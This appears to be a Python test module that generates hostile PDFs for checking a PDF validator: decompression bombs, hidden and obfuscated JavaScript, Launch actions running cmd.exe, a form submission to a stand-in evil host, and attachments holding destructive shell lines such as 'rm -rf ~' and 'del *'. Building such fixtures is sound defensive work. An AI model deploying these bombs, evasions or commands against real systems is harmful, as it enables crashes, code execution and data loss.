"""PDFs as nobody should send them."""

# ruff: noqa: E501  a row is a file

import random
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from activities.tests.files import PDF, attach, edited, resaved

MEGABYTE = 1024 * 1024
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"This program cannot be run in DOS mode."
SCRIPT = b"<script>alert(document.cookie)</script>"


def packed_zeros(megabytes):
    packer = zlib.compressobj(1)
    return b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(megabytes)) + packer.flush()


def raw_pdf(*objects, trailer=b""):
    """A PDF of these objects, with a table that fits."""
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
    tail = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
    return content + head + tail % (len(objects) + 1, trailer, len(content))


def raw_page(*more, catalog=b"", page=b"", stream=b"", entries=b"", pages=b"/Kids [3 0 R] /Count 1"):
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages %s >>" % pages,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R %s >>" % page,
        b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(stream), entries, stream),
        *more,
    )


def pdf_bombs():
    flate = b"/Filter /FlateDecode"
    yield "700 MB of blanks.pdf", raw_page(stream=packed_zeros(700), entries=flate)
    once = zlib.compress(packed_zeros(300), 9)
    yield "packed twice.pdf", raw_page(stream=once, entries=b"/Filter [/FlateDecode /FlateDecode]")
    yield "packed ten times.pdf", raw_page(stream=once, entries=b"/Filter [" + b"/FlateDecode " * 10 + b"]")
    draw = b"q 200 0 0 100 0 0 cm /I Do Q"
    for width, height, bits in ((30_000, 30_000, 1), (30_000, 30_000, 8), (2**31 - 1, 2**31 - 1, 8), (100_000, 1, 16)):
        image = packed_zeros(120)
        yield (
            f"picture of {width} x {height}, {bits}.pdf",
            raw_page(
                b"<< /Subtype /Image /Width %d /Height %d /BitsPerComponent %d /ColorSpace /DeviceGray /Filter /FlateDecode "
                b"/Length %d >>\nstream\n%s\nendstream" % (width, height, bits, len(image), image),
                page=b"/Resources << /XObject << /I 5 0 R >> >>",
                stream=draw,
            ),
        )
    yield "million pages.pdf", raw_page(pages=b"/Kids [3 0 R] /Count 1000000")
    yield "one page a hundred thousand times.pdf", raw_page(pages=b"/Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000")
    forms = [b"q /F Do /F Do Q"] * 30
    yield (
        "laughs.pdf",
        raw_page(
            *(
                b"<< /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F %d 0 R >> >> /Length %d >>\nstream\n%s\nendstream"
                % (6 + number if number < 29 else 5 + number, len(form), form)
                for number, form in enumerate(forms)
            ),
            page=b"/Resources << /XObject << /F 5 0 R >> >>",
            stream=b"/F Do",
        ),
    )
    yield "hundred thousand lines.pdf", raw_page(stream=b"0 0 m 200 100 l S\n" * 100_000)
    curves = zlib.compress(b"0 0 m 9 99 200 -99 200 100 c 9 9 50 50 re f*\n" * 1_000_000)
    yield "million curves.pdf", raw_page(stream=curves, entries=flate)
    yield "big words.pdf", raw_page(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        page=b"/Resources << /Font << /F 5 0 R >> >>",
        stream=zlib.compress(b"BT /F 12 Tf 0 0 Td " + b"(" + b"A" * MEGABYTE + b") Tj " * 1 + b"ET"), entries=flate,
    )  # fmt: skip
    yield "huge page.pdf", raw_page().replace(b"[0 0 200 100]", b"[0 0 1e9 1e9]")
    yield "thin page.pdf", raw_page().replace(b"[0 0 200 100]", b"[0 0 14400 .001]")


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PLACES = {
    "on opening": {"catalog": b"/OpenAction " + JS},
    "by name": {"catalog": b"/Names << /JavaScript << /Names [(a) %s] >> >>" % JS},
    "of the document": {"catalog": b"/AA << /WC %s >>" % JS},
    "of the page": {"page": b"/AA << /O %s >>" % JS},
    "on a click": {"page": b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A %s >>]" % JS},
    "on passing": {"page": b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /AA << /E %s >> >>]" % JS},
    "of a field": {"catalog": b"/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /K %s /C %s >> >>] >>" % (JS, JS)},
    "in the outline": {"catalog": b"/Outlines << /Count 1 /First << /Title (a) /A %s >> >>" % JS},
    "after a link": {"catalog": b"/OpenAction << /S /URI /URI (https://example.com) /Next [%s] >>" % JS},
    "far inside": {"catalog": b"/PieceInfo " + b"[<< /A " * 60 + JS + b" >>]" * 60},
    "only there": {"catalog": b"/Extensions << /Unused %s >>" % JS},
}


def javascript():
    for name, places in PLACES.items():
        content = raw_page(**places)
        yield f"{name}.pdf", content
        yield f"{name}, packed.pdf", resaved(content, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        yield f"{name}, locked.pdf", resaved(content, encryption=pikepdf.Encryption(owner="owner", user=""))
    script = b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream"
    yield "in a stream.pdf", raw_page(script, catalog=b"/OpenAction << /S /JavaScript /JS 5 0 R >>")
    yield "escaped.pdf", raw_page(catalog=b"/OpenAction << /#53 /Java#53cript /#4aS (app.alert\\(1\\)) >>")
    yield "hexadecimal.pdf", raw_page(catalog=b"/OpenAction << /S /J#61v#61Script /JS <6170702e616c657274> >>")
    yield "apart.pdf", raw_page(b"/JavaScript", b"(app.alert)", catalog=b"/OpenAction << /S 5 0 R /JS 6 0 R >>")
    yield "commented.pdf", raw_page(catalog=b"/OpenAction <</S%\n/JavaScript/JS%x\n(a)>>")
    hidden = raw_page(**PLACES["on opening"])
    yield "earlier version.pdf", hidden + b"\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    yield "no table.pdf", hidden[: hidden.rindex(b"startxref")]
    yield "unreachable.pdf", raw_page().replace(b"xref\n0", b"9 0 obj\n" + JS + b"\nendobj\nxref\n0", 1)


def actions():
    for name, action in {
        "launch": b"/S /Launch /F (cmd.exe)",
        "launch on windows": b"/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>",
        "escaped launch": b"/S /L#61unch /F (cmd.exe)",
        "launch, apart": b"/S 5 0 R /F (cmd.exe)",
        "submit": b"/S /SubmitForm /F (https://evil.example)",
        "import": b"/S /ImportData /F (\\\\\\\\evil\\\\x.fdf)",
        "embedded": b"/S /GoToE /T << /R /C /N (a.pdf) >>",
        "rendition": b"/S /Rendition /OP 0 /R << /S /MR >>",
    }.items():
        apart = [b"/Launch"] if b"5 0 R" in action else []
        yield f"{name} on opening.pdf", raw_page(*apart, catalog=b"/OpenAction << %s >>" % action)
        link = b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << %s >> >>]" % action
        yield f"{name} on a click.pdf", raw_page(*apart, page=link)
    yield "next.pdf", raw_page(catalog=b"/OpenAction << /S /Named /N /Print /Next << /S /Launch /F (a) >> >>")
    yield "forms of another kind.pdf", raw_page(b"<xdp/>", catalog=b"/AcroForm << /Fields [] /XFA [(a) 5 0 R] >>")
    xdp = b"<< /Length 40 >>\nstream\n<xdp><script>app.alert(1)</script></xdp> \nendstream"
    yield "one form.pdf", raw_page(xdp, catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>")


def rich_media():
    for name, entries in {
        "flash": b"/Subtype /RichMedia /RichMediaContent << >> /RichMediaSettings << >>",
        "content only": b"/Subtype /Screen /RichMediaContent << >>",
        "solid": b"/Subtype /3D /3DD 4 0 R",
        "film": b"/Subtype /Movie /Movie << /F (a.avi) >> /A true",
        "escaped": b"/Subtype /Rich#4dedia",
        "apart": b"/Subtype 5 0 R",
        "run": b"/Subtype /Link /A << /S /RichMediaExecute >>",
        "view": b"/Subtype /Link /A << /S /GoTo3DView >>",
    }.items():
        yield f"{name}.pdf", raw_page(b"/RichMedia", page=b"/Annots [<< /Type /Annot /Rect [0 0 9 9] %s >>]" % entries)


def carried():
    for name, content in {
        "a.exe": EXE, "a.txt": EXE, "a.png": EXE, "a.xml": b"#!/bin/sh\nrm -rf ~\n", "a.js": b"alert(1)", "a.vbs": b"MsgBox 1",
        "a.bat": b"del *", "a.html": SCRIPT, "a.svg": b"<svg/>", "a.pdf": PDF, "b.txt": PDF, "a.docm": b"PK", "a.jar": b"a",
        "a.csv": b"PK\x03\x04\x00", "a.lnk": b"L\x00\x00\x00\x01\x14\x02\x00", "a.exe.": EXE, "a.xml.exe": b"x", "a.EXE\x00.txt": b"x",
        "a.txt:b.exe": EXE, "a.ps1": b"Remove-Item", "a": EXE, "a.json": SCRIPT,
    }.items():  # fmt: skip
        yield (
            f"carries {len(name)}{name[:5]}.pdf",
            edited(lambda pdf, name=name, content=content: attach(pdf, name, content)),
        )

    def on_page(pdf):
        spec = attach(pdf, "a.exe", EXE)
        del pdf.Root.Names
        pdf.pages[0].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)]
        )

    def portfolio(pdf):
        attach(pdf, "a.pdf", PDF)
        pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.T)

    yield "on the page.pdf", edited(on_page)
    yield "portfolio.pdf", edited(portfolio)
    yield "no type.pdf", edited(lambda pdf: attach(pdf, "a.exe", EXE, named=False))
    yield (
        "packed.pdf",
        edited(lambda pdf: attach(pdf, "a.exe", EXE), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    )
    locked = pikepdf.Encryption(owner="owner", user="")
    yield "locked.pdf", edited(lambda pdf: attach(pdf, "a.exe", EXE), encryption=locked)
    yield "bomb.pdf", raw_page(
        b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(zeros := packed_zeros(600)), zeros),
        catalog=b"/Names << /EmbeddedFiles << /Names [(a) << /F (a.txt) /EF << /F 5 0 R >> >>] >> >>",
    )  # fmt: skip


def locked():
    for revision in (2, 3, 4, 6):
        options = {"R": revision, "aes": revision >= 4, "metadata": revision >= 4}
        both = pikepdf.Encryption(owner="owner", user="user", **options)
        yield f"password {revision}.pdf", resaved(PDF, encryption=both)
        if revision == 6:
            continue  # an empty password of the owner opens these
        only_user = pikepdf.Encryption(owner="", user="user", **options)
        yield f"user password {revision}.pdf", resaved(PDF, encryption=only_user)
    locked = b"<< /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >>" % (b"41" * 32, b"42" * 32)
    yield (
        "wrong keys.pdf",
        raw_page(locked, b"", catalog=b"").replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 5 0 R /ID [<00> <00>]"),
    )
    yield (
        "another lock.pdf",
        raw_page(b"<< /Filter /Evil.Lock /V 9 >>").replace(
            b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 5 0 R /ID [<00> <00>]"
        ),
    )


def tangles():
    yield (
        "tables in a circle.pdf",
        raw_page().replace(b"/Root", b"/Prev 9 /Root").replace(b"/Prev 9", b"/Prev %d" % raw_page().rindex(b"xref\n0")),
    )
    yield "pages in a circle.pdf", raw_page(pages=b"/Kids [2 0 R] /Count 1")
    yield (
        "pages in two circles.pdf",
        raw_page(b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 >>", pages=b"/Kids [5 0 R 3 0 R] /Count 9"),
    )
    yield "parent of itself.pdf", raw_page().replace(b"/Parent 2 0 R", b"/Parent 3 0 R")
    yield "length of itself.pdf", raw_page().replace(b"/Length 0", b"/Length 4 0 R")
    yield "itself.pdf", raw_page(b"5 0 R", catalog=b"/Names 5 0 R")
    yield "one another.pdf", raw_page(b"6 0 R", b"5 0 R", catalog=b"/Names 5 0 R")
    for depth in (400, 5_000, 200_000):
        yield f"{depth} lists deep.pdf", raw_page(catalog=b"/A " + b"[" * depth + b"]" * depth)
        yield f"{depth} dictionaries deep.pdf", raw_page(catalog=b"/A " + b"<</A" * depth + b" 1 " + b">>" * depth)
    chain = [b"<< /First %d 0 R /Title (a) >>" % (number + 6) for number in range(20_000)]
    yield "outline without end.pdf", raw_page(*chain, b"<< >>", catalog=b"/Outlines 5 0 R")
    kids = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 6) for number in range(5_000)]
    yield (
        "pages far down.pdf",
        raw_page(*kids, b"<< /Type /Page /MediaBox [0 0 9 9] >>", pages=b"/Kids [5 0 R] /Count 1"),
    )
    yield (
        "stream of itself.pdf",
        raw_page(b"<< /Type /ObjStm /N 1 /First 4 /Extends 5 0 R /Length 12 >>\nstream\n5 0 << /A 1 >>\nendstream"),
    )
    yield (
        "claims many.pdf",
        raw_page(b"<< /Type /ObjStm /N 999999999 /First 4 /Length 12 >>\nstream\n5 0 << /A 1 >>\nendstream"),
    )
    yield "size of millions.pdf", raw_page().replace(b"/Size 5", b"/Size 8388607")
    yield "table of millions.pdf", raw_page().replace(b"xref\n0 5", b"xref\n0 99999999")
    yield "only a trailer.pdf", b"%PDF-1.7\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF"
    yield "rubbish.pdf", b"%PDF-1.7\n" + random.Random(1).randbytes(20_000)
    yield "nothing.pdf", b"%PDF-1.7\n%%EOF"
    yield "cut at the half.pdf", PDF[: len(PDF) // 2]
